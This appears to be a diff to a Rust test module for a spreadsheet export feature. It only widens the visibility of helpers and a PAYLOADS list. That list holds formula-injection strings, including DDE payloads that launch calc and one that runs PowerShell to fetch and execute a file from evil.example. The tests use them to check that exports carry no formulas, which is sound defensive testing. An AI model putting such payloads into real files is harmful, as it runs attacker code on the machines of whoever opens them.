@@ -16,7 +16,7 @@ use crate::support::root;
 use crate::support::strategies::{plan, source, source_with_elements};
 
 #[track_caller]
-fn assert_same(left: &Plan, right: &Plan, context: &str) {
+pub(crate) fn assert_same(left: &Plan, right: &Plan, context: &str) {
     if left == right {
         return;
     }
@@ -400,7 +400,7 @@ fn the_schema_refuses_what_is_no_plan() {
 }
 
 /// What people have put into cells to make a spreadsheet run it, and what comes near to it.
-const PAYLOADS: &[&str] = &[
+pub(crate) const PAYLOADS: &[&str] = &[
     "=1+1",
     "=cmd|' /C calc'!A0",
     "=cmd|' /C powershell IEX(wget evil.example/x.exe)'!A0",
@@ -474,7 +474,7 @@ const PAYLOADS: &[&str] = &[
 ];
 
 /// A plan that has the text wherever there can be text.
-fn plan_of(payload: &str) -> Plan {
+pub(crate) fn plan_of(payload: &str) -> Plan {
     let line = || Inline::from_plain(payload);
     let words = || Some(payload.to_owned());
     let mut key_result = KeyResult {
@@ -611,7 +611,7 @@ pub(crate) fn assert_no_formula(table: &[u8]) {
 
 /// Returns the cells that a spreadsheet might take for a formula: those that begin, after what does not
 /// show, with a formula's sign, and are no plain number.
-fn formulas(table: &[u8]) -> Vec<String> {
+pub(crate) fn formulas(table: &[u8]) -> Vec<String> {
     let is_unseen = |c: char| {
         c.is_whitespace()
             || c.is_control()
